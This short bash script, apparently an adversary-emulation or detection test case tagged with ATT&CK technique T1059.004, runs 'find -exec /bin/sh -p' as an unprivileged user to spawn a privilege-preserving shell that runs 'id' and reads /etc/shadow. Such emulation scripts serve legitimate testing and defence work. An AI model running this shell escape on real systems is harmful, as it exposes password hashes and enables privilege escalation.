#!/bin/bash
# T1059.004: A program that looks for files starts a shell.
cd /home/alice; setpriv --reuid 1001 --regid 1001 --clear-groups find . -name report1.txt -exec /bin/sh -p -c 'id; cat /etc/shadow' \; -quit
